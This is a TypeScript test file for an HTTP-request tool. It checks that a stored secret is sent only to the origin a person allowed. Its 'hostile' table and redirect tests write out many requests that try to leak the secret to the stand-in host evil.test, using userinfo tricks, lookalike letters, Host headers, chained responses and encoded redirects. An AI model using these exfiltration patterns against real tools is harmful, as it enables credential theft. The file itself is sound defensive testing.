// A stored secret goes where a person said, whatever a workspace has in its files.
import assert from 'node:assert/strict';
import type { Socket } from 'node:net';
import type { Host } from '../../../src/app/host';
import type { RunReport } from '../../../src/app/report';
import { createServices, type Services } from '../../../src/app/services';
import type { SessionInput } from '../../../src/app/session/session';
import { AccountBook, MemorySecretStore } from '../../../src/auth/accountBook';
import { systemClock } from '../../../src/base/clock';
import { systemRandom } from '../../../src/base/random';
import { createUndiciTransport } from '../../../src/http/undiciTransport';
import { nameOf } from '../../../src/language/plan/names';
import { parse } from '../../../src/language/syntax/parser';
import { type MemoryFiles, memoryFiles } from '../../helpers/memoryFiles';
import { makeCertificate } from '../http/certificates';
import { RawServer } from '../http/rawServer';

const secret = 'Planted+secret/of-the-vault-42';
const workspace = 'file:///workspace/';

/** Answers a request when all of it is there. */
function whenComplete(answer: (socket: Socket, request: string) => void) {
  return (socket: Socket, received: string) => {
    const head = received.indexOf('\r\n\r\n');
    const length = Number(/\r\ncontent-length: (\d+)\r\n/i.exec(received)?.[1] ?? 0);
    if (head >= 0 && received.length >= head + 4 + length) answer(socket, received);
  };
}

function respond(socket: Socket, body: string, status = '200 OK', header = 'Content-Type: application/json'): void {
  socket.end(`HTTP/1.1 ${status}\r\n${header}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`);
}

/** The product with two servers: the one that the secret is for, and one that others point it at. */
class World {
  files: MemoryFiles = memoryFiles({});
  /** Sent by the good server in the `Location` of `/redirect`. */
  location = '';

  private constructor(
    readonly good: RawServer,
    readonly evil: RawServer,
    readonly evilPlain: RawServer,
    readonly services: Services,
    readonly secrets: MemorySecretStore,
    readonly log: readonly string[],
  ) {}

  static async start(): Promise<World> {
    const authority = makeCertificate({ name: 'ca', authority: true });
    const names = ['hooks.test', 'evil.test', 'xn--hoks-x7a.test'];
    const { key, cert } = makeCertificate({ name: 'both', issuer: authority, hosts: names });
    const holder: { world?: World } = {};
    const good = await RawServer.start(whenComplete((socket, request) => {
      const [, target = ''] = request.split(' ');
      const body = request.slice(request.indexOf('\r\n\r\n') + 4);
      if (target.startsWith('/redirect')) respond(socket, '', '302 Found', `Location: ${holder.world?.location ?? ''}`);
      else respond(socket, JSON.stringify({ target, body, key: /\r\nx-key: ([^\r]*)/i.exec(request)?.[1], items: [{ id: 'found', key: body, prefix: 'P.*' }] }));
    }), { key, cert });
    const evil = await RawServer.start(whenComplete((socket) => respond(socket, '{}')), { key, cert });
    const evilPlain = await RawServer.start(whenComplete((socket) => respond(socket, '{}')));
    const ports = [good.port, evil.port, evilPlain.port, 443, 80];
    // Also what nobody listens on stays on this machine.
    const everywhere = [...names, 'api.disruptive-technologies.com', 'emulator.disruptive-technologies.com', `${secret.toLowerCase()}.evil.test`];
    const resolve = new Map(everywhere.flatMap((name) => ports.map((port) => [`${name}:${port}`, '127.0.0.1'] as const)));
    const secrets = new MemorySecretStore();
    const log: string[] = [];
    const host: Host = {
      clock: systemClock,
      random: systemRandom,
      log: (level, message) => log.push(`${level} ${message}`),
      files: { read: (...args) => reading().read(...args), realPath: (...args) => reading().realPath(...args), list: (...args) => reading().list(...args), write: (...args) => reading().write(...args) },
      secrets,
      processEnv: () => undefined,
      userAgent: 'dt-http/test',
      allowedOrigins: [`https://evil.test:${evil.port}`],
    };
    const reading = () => holder.world?.files ?? assert.fail();
    const services = createServices(host, new AccountBook(secrets), createUndiciTransport({ clock: systemClock, ca: [authority.cert], resolve }));
    const world = new World(good, evil, evilPlain, services, secrets, log);
    holder.world = world;
    await services.secrets.save({ name: 'vault', value: secret, origins: [world.place('https://hooks.test:<good>')] });
    return world;
  }

  place(text: string): string {
    return text.replaceAll('<good>', String(this.good.port)).replaceAll('<evil>', String(this.evil.port)).replaceAll('<plain>', String(this.evilPlain.port));
  }

  /** Runs the request called `use`, or the first one, with an environment `dev` beside it. */
  async run(text: string, environment: Readonly<Record<string, unknown>> = {}, more: Partial<SessionInput> = {}, files: Readonly<Record<string, string>> = {}): Promise<RunReport> {
    this.put(environment, files);
    const file = parse(this.place(text));
    const named = file.blocks.find((block) => nameOf(file, block) === 'use') ?? file.blocks.find(({ request }) => request);
    return this.session(file, more).run(named ?? assert.fail('There is no request.'), new AbortController().signal);
  }

  /** Fills the workspace. */
  put(environment: Readonly<Record<string, unknown>>, files: Readonly<Record<string, string>> = {}): void {
    const values = JSON.stringify({ dev: { key: { $secret: 'vault' }, ...environment } });
    const all = { 'http-client.env.json': values, ...files };
    this.files = memoryFiles(Object.fromEntries(Object.entries(all).map(([name, content]) => [workspace + name, this.place(content)])));
  }

  session(file: ReturnType<typeof parse>, more: Partial<SessionInput> = {}) {
    return this.services.session({ file, uri: `${workspace}a.dt.http`, root: workspace.slice(0, -1), source: 'a', environment: 'dev', ...more });
  }

  /** What the servers that are not meant have received. */
  get leaked(): string {
    return [...this.evil.received, ...this.evilPlain.received].join('\n');
  }

  stop(): void {
    this.services.dispose();
    for (const server of [this.good, this.evil, this.evilPlain]) server.dispose();
  }
}

const codes = (report: RunReport) => ('findings' in report ? report.findings.map(({ finding }) => finding.code) : [report.kind]);

/** Everything of a report that somebody sees. */
function shown(report: RunReport): string {
  if (report.kind !== 'ran') return JSON.stringify(report);
  const { title, summary, requestText, document, body, failure, expectations } = report;
  return JSON.stringify({ title, summary, requestText, document, body, failure, expectations });
}

describe('a stored secret', () => {
  let world: World;
  before(async () => (world = await World.start()));
  after(() => world.stop());
  beforeEach(() => {
    for (const { received } of [world.good, world.evil, world.evilPlain]) received.splice(0);
    world.services.answers.clear();
  });
  afterEach(() => {
    assert.doesNotMatch(world.log.join('\n'), /Planted/i);
    assert.doesNotMatch(world.leaked, /planted|UGxhbnRlZ|of-the-vault/i);
  });

  const allowed: readonly [how: string, text: string, environment?: Readonly<Record<string, unknown>>][] = [
    ['by its URL', 'GET https://hooks.test:<good>/x\nX-Key: {{key}}'],
    ['in upper case', 'GET HTTPS://HOOKS.Test:<good>/x\nX-Key: {{key}}'],
    ['with a trailing dot', 'GET https://hooks.test.:<good>/x\nX-Key: {{key}}'],
    ['by the base', 'GET /x/{{%key}}', { apiBase: 'https://hooks.test:<good>/v2' }],
    ['by its Host header', 'GET /x?k={{%key}}\nHost: hooks.test:<good>'],
    ['in a body', 'POST https://hooks.test:<good>/x\nContent-Type: application/json\n\n{"k": "{{key}}"}'],
  ];
  for (const [how, text, environment] of allowed) {
    it(`goes where it may, named ${how}`, async () => {
      const report = await world.run(text, environment);
      assert.equal(report.kind === 'ran' && report.verdict, 'passed', shown(report));
      assert.match(world.good.received.join(''), /Planted(\+|%2B)secret(\/|%2F)of-the-vault-42/);
      assert.doesNotMatch(shown(report), /Planted/);
    });
  }

  const hostile: readonly [how: string, text: string, environment?: Readonly<Record<string, unknown>>, code?: string][] = [
    ['another host', 'GET https://evil.test:<evil>/\nX-Key: {{key}}'],
    ['the base', 'GET /projects\nX-Key: {{key}}', { apiBase: 'https://evil.test:<evil>/v2' }],
    ['the base of the emulator', '# @host emulator\nGET /projects\nX-Key: {{key}}', { emulatorBase: 'https://evil.test:<evil>/v2' }],
    ['the base, defined in the file', '@apiBase = https://evil.test:<evil>\nGET /x?k={{%key}}'],
    ['the base, with the secret in it', 'GET /x', { apiBase: { $secret: 'vault' } }, 'target.base'],
    ['a variable of the environment', 'GET {{url}}/x\nX-Key: {{key}}', { url: 'https://evil.test:<evil>' }],
    ['a variable in two pieces', '@host = evil\nGET https://{{host}}.test:<evil>/x\nX-Key: {{key}}'],
    ['a Host header', 'GET /x\nHost: evil.test:<evil>\nX-Key: {{key}}'],
    ['a Host header that differs', 'GET https://hooks.test:<good>/x\nHost: evil.test:<evil>\nX-Key: {{key}}', {}, 'target.host-differs'],
    ['userinfo', 'GET https://hooks.test:<good>@evil.test:<evil>/x\nX-Key: {{key}}', {}, 'target.userinfo'],
    ['userinfo behind a backslash', 'GET https://hooks.test\\@evil.test:<evil>/x\nX-Key: {{key}}', {}, 'target.userinfo'],
    ['a trailing dot', 'GET https://evil.test.:<evil>/x\nX-Key: {{key}}'],
    ['another port', 'GET https://hooks.test:<evil>/x\nX-Key: {{key}}'],
    ['http', 'GET http://hooks.test:<plain>/x\nX-Key: {{key}}'],
    ['http at the port that is meant', 'GET http://hooks.test:<good>/x\nX-Key: {{key}}'],
    ['lines that end with CRLF', 'GET https://evil.test:<evil>/x\r\nX-Key: {{key}}\r\n\r\n{{key}}\r\n'],
    ['upper case', 'GET HTTPS://EVIL.TEST:<evil>/x\nX-Key: {{key}}'],
    ['letters of another alphabet', 'GET https://h\u043eoks.test:<evil>/x\nX-Key: {{key}}', {}, 'target.character'],
    ['the same as it is connected to', 'GET https://xn--hoks-x7a.test:<evil>/x\nX-Key: {{key}}'],
    ['a name that begins like the right one', 'GET https://hooks.test.evil.test:<evil>/x\nX-Key: {{key}}'],
    ['the right one in the path', 'GET https://evil.test:<evil>/https://hooks.test:<good>\nX-Key: {{key}}'],
    ['the sandbox of somebody else', 'GET http://127.0.0.1:<plain>/x\nX-Key: {{key}}'],
    ['DT itself, which it is not for', 'GET /projects\nX-Key: {{key}}'],
    ['a body', 'POST https://evil.test:<evil>/\nContent-Type: application/json\n\n{"k": "{{key}}"}'],
    ['a form', 'POST https://evil.test:<evil>/\nContent-Type: application/x-www-form-urlencoded\n\nk={{%key}}'],
    ['a header that signs', 'GET https://evil.test:<evil>/\nAuthorization: Bearer {{key}}'],
    ['variables of variables', '@a = {{key}}\n@b = x{{a}}\nGET https://evil.test:<evil>/\nX-Key: {{b}}'],
    ['an expectation', '# @expect body contains {{key}}\nGET https://evil.test:<evil>/'],
    ['a question', '# @confirm {{key}}?\nGET https://evil.test:<evil>/'],
    ['a file in the body', 'POST https://evil.test:<evil>/\n\n<@ ./body.txt'],
  ];
  for (const [how, text, environment, code = 'secret.origin'] of hostile) {
    it(`never goes anywhere else: ${how}`, async () => {
      const report = await world.run(text, environment, {}, { 'body.txt': 'key: {{key}}' });
      assert.deepEqual([report.kind, codes(report)], ['refused', [code]], shown(report));
      assert.doesNotMatch(shown(report), /Planted/i);
      assert.equal(world.leaked, '');
    });
  }

  it('is refused with a sentence, at its name', async () => {
    const text = 'GET https://evil.test:<evil>/\nX-Key: {{key}}';
    const report = await world.run(text);
    const [first] = 'findings' in report ? report.findings : [];
    assert.equal(first?.message, world.place('The secret "vault" is not sent to https://evil.test:<evil>: it may go to https://hooks.test:<good> only. To change that, use "DT: Store Secret".'));
    const placed = world.place(text);
    assert.equal(placed.slice(first.finding.span.start, first.finding.span.end), '{{key}}');
  });

  for (const [how, text, environment, shownAs] of [
    ['of the name', 'GET https://{{host}}.evil.test:<evil>/', { host: { $secret: 'host' } }, 'https://•••.evil.test:<evil>'],
    ['of the Host header', 'GET /x\nHost: {{host}}.evil.test:<evil>', { host: { $secret: 'host' } }, 'https://•••.evil.test:<evil>'],
    ['of the base', 'GET /x', { apiBase: { $secret: 'base' } }, '•••'],
    ['of a base in the file', '@apiBase = https://a{{host}}.evil.test:<evil>\nGET /x', { host: { $secret: 'host' } }, '•••'],
    ['of a variable', '@url = https://a{{host}}.evil.test:<evil>\nGET {{url}}/x', { host: { $secret: 'host' } }, '•••'],
  ] as const) {
    it(`as a part ${how} is not even looked up, and not said`, async () => {
      await world.services.secrets.save({ name: 'host', value: 'Planted-Ho', origins: ['https://other.test'] });
      await world.services.secrets.save({ name: 'base', value: 'https://Planted-Ho.evil.test/v2', origins: ['https://other.test'] });
      const report = await world.run(text, environment);
      assert.deepEqual(codes(report), ['secret.origin'], shown(report));
      assert.ok(shown(report).includes(world.place(`is not sent to ${shownAs}: it may go to https://other.test only`)), shown(report));
      assert.doesNotMatch(shown(report), /Planted/i);
      assert.equal(world.leaked, '');
    });
  }

  it('may be a base that goes where it may', async () => {
    await world.services.secrets.save({ name: 'base', value: world.place('https://hooks.test:<good>/v9'), origins: [world.place('https://hooks.test:<good>')] });
    const report = await world.run('GET /projects', { apiBase: { $secret: 'base' } });
    assert.equal(report.kind, 'ran', shown(report));
    assert.match(world.good.received.join(''), /^GET \/v9\/projects /);
  });

  it('as the name of an account is not told when there is no such account', async () => {
    await world.services.secrets.save({ name: 'account', value: 'Planted-account', origins: ['https://other.test'] });
    const report = await world.run('GET /projects', { account: { $secret: 'account' } });
    assert.equal('findings' in report && report.findings[0]?.message, 'The environment "dev" names the account "•••", which does not exist.');
  });

  const echoing = '# @name echo\nPOST https://hooks.test:<good>/x?k={{%key}}\nX-Key: {{key}}\nContent-Type: text/plain\n\n{{key}}\n\n###\n# @name use\n# @ref echo\n';
  for (const [how, use] of [
    ['the answer', 'GET https://evil.test:<evil>/{{%echo.response.body.$.body}}'],
    ['a whole answer', 'POST https://evil.test:<evil>/\n\n{{echo.response.body}}'],
    ['the request', 'GET https://evil.test:<evil>/\nX-Key: {{echo.request.headers.X-Key}}'],
    ['an encoded piece of the answer', 'GET https://evil.test:<evil>/\nX-Key: {{echo.response.body.$.target}}'],
    ['a condition', 'GET https://evil.test:<evil>/{{echo.response.body.$.items[?match(@.key, @.prefix)].id}}'],
    ['a variable made of the answer', '@a = {{echo.response.body.$.key}}\nGET https://evil.test:<evil>/\nX-Key: {{a}}'],
  ] as const) {
    it(`does not go on by way of ${how}`, async () => {
      const report = await world.run(echoing + use);
      assert.deepEqual([report.kind, codes(report)], ['refused', ['secret.origin']], shown(report));
      assert.equal(world.good.received.length, 1);
      assert.equal(world.leaked, '');
    });
  }

  it('does not go on by way of a file that an answer was saved to', async () => {
    const saving = await world.run('POST https://hooks.test:<good>/x\nX-Key: {{key}}\n\n>>! ./kept.json');
    assert.equal(saving.kind === 'ran' && saving.saved?.kind, 'saved', shown(saving));
    const kept = world.files.contents.get(`${workspace}kept.json`);
    const report = await world.run('POST https://evil.test:<evil>/\n\n< ./kept.json', {}, {}, { 'kept.json': Buffer.from(kept as Uint8Array).toString('utf8') });
    assert.deepEqual(codes(report), ['secret.origin'], shown(report));
    assert.equal(world.leaked, '');
  });

  for (const [how, location] of [
    ['as it is', `https://evil.test:<evil>/?k=${secret}`],
    ['encoded', `https://evil.test:<evil>/?k=${encodeURIComponent(secret)}`],
    ['encoded twice', `https://evil.test:<evil>/?k=${encodeURIComponent(encodeURIComponent(secret))}`],
    ['in base64', `https://evil.test:<evil>/?k=${Buffer.from(`x:${secret}`).toString('base64url')}`],
    ['in lower case', `https://evil.test:<evil>/?k=${secret.toLowerCase()}`],
    ['left out', 'https://evil.test:<evil>/'],
    ['at another port', 'https://hooks.test:<evil>/'],
    ['over http', 'http://hooks.test:<plain>/'],
  ] as const) {
    it(`does not follow a redirect, ${how}`, async () => {
      world.location = world.place(location);
      const report = await world.run('GET https://hooks.test:<good>/redirect\nX-Key: {{key}}\nCookie: k={{key}}\nAccept: text/{{%key}}');
      assert.equal(report.kind, 'ran', shown(report));
      // `afterEach` looks at what was received.
      assert.doesNotMatch(shown(report), /Planted/i);
    });
  }

  it('is neither asked for nor run for, when it may not go there anyway', async () => {
    const asked: string[] = [];
    const interaction = {
      prompt: ({ name }: { name: string }) => (asked.push(name), Promise.resolve({ kind: 'answered' as const, value: 'x' })),
      confirm: ({ kind }: { kind: string }) => (asked.push(kind), Promise.resolve({ kind: 'answered' as const, value: true as const })),
    };
    const text = '# @name first\nPOST https://hooks.test:<good>/x\n\n###\n# @name use\n# @prompt code\n# @ref first\n# @confirm\nGET https://evil.test:<evil>/{{code}}/{{first.response.status}}\nX-Key: {{key}}';
    const report = await world.run(text, {}, { interaction });
    assert.deepEqual([codes(report), asked, world.good.received], [['secret.origin'], [], []], shown(report));
  });

  it('is not to be allowed by an answer to a question, nor by the hosts of accounts', async () => {
    const interaction = { prompt: () => assert.fail(), confirm: () => Promise.resolve({ kind: 'answered' as const, value: true as const }) };
    assert.deepEqual(codes(await world.run('GET https://evil.test:<evil>/\nX-Key: {{key}}', {}, { interaction })), ['secret.origin']);
  });

  it('is refused in a preview, and shown masked where it may go', async () => {
    world.put({});
    const preview = async (text: string) => {
      const file = parse(world.place(text));
      return world.session(file).preview(file.blocks[0] ?? assert.fail(), new AbortController().signal);
    };
    const refused = await preview('# @prompt p\nGET https://evil.test:<evil>/{{p}}\nX-Key: {{key}}');
    assert.deepEqual(refused.kind === 'refused' && codes(refused), ['secret.origin']);
    const good = await preview('GET https://hooks.test:<good>/x/{{%key}}\nX-Key: {{key}}');
    assert.ok(good.kind === 'preview', JSON.stringify(good));
    assert.match(good.document, /\{\{key\}\}: ••• · the environment file \(http-client\.env\.json\), stored secret "vault"/);
    const open = await preview('# @prompt host\nGET {{host}}/x\nX-Key: {{key}}');
    assert.equal(open.kind, 'preview', 'where it goes is not known yet');
    assert.doesNotMatch(JSON.stringify([refused, good, open]), /Planted/i);
  });

  it('that was changed meanwhile takes what was made of it along', async () => {
    const { services } = world;
    await services.secrets.save({ name: 'short', value: 'Planted-one', origins: [world.place('https://hooks.test:<good>')] });
    const blocks = [
      '# @name echo\nPOST https://hooks.test:<good>/x\nX-Key: {{other}}\n',
      '# @name again\n# @ref echo\nGET https://hooks.test:<good>/{{echo.response.body.$.key}}\n',
      '# @name use\nGET https://hooks.test:<good>/{{again.response.body.$.target}}\n',
    ];
    world.put({ other: { $secret: 'short' } });
    const file = parse(world.place(blocks.join('\n###\n')));
    const last = file.blocks[2] ?? assert.fail();
    assert.equal((await world.session(file).run(last, new AbortController().signal)).kind, 'ran');
    assert.equal(world.good.received.length, 3);
    await services.secrets.save({ name: 'short', value: 'Planted-two', origins: [world.place('https://evil.test:<evil>')] });
    const next = await world.session(file).run(last, new AbortController().signal);
    assert.deepEqual([next.kind, world.good.received.length], ['skipped', 3], 'the answers are gone, and the new value may not go there');
    await services.secrets.remove('short');
  });

  it('that is damaged is refused with a sentence, in a file of the body too', async () => {
    await world.secrets.set('secret:bad', 'Planted-plain-text');
    const inHeader = await world.run('GET https://hooks.test:<good>/\nX-Key: {{bad}}', { bad: { $secret: 'bad' } });
    assert.deepEqual(codes(inHeader), ['secret.damaged']);
    assert.match(shown(inHeader), /The stored secret \\"bad\\" cannot be read\. Store it again with \\"DT: Store Secret\\", or remove it\./);
    const inFile = await world.run('POST https://hooks.test:<good>/\n\n<@ ./body.txt', { bad: { $secret: 'bad' } }, {}, { 'body.txt': '{{bad}}' });
    assert.match(shown(inFile), /body\.txt, line 1: The stored secret \\"bad\\" cannot be read/);
    assert.doesNotMatch(shown(inHeader) + shown(inFile), /Planted/);
  });

  for (const [name, expected] of [['nothing', 'There is no secret "nothing": store it with "DT: Store Secret".'], ['no name', 'There is no secret "no name": a name has letters, digits, "_" and "-" only, so give it another one.']] as const) {
    it(`that is not there: ${expected}`, async () => {
      const report = await world.run('GET https://hooks.test:<good>/\nX-Key: {{gone}}', { gone: { $secret: name } });
      assert.equal('findings' in report && report.findings[0]?.message, expected);
    });
  }

  it('other values may still go wherever they like', async () => {
    const report = await world.run('GET https://evil.test:<evil>/{{plain}}', { plain: 'x' });
    assert.equal(report.kind, 'ran');
    assert.equal(world.evil.received.length, 1);
  });
});
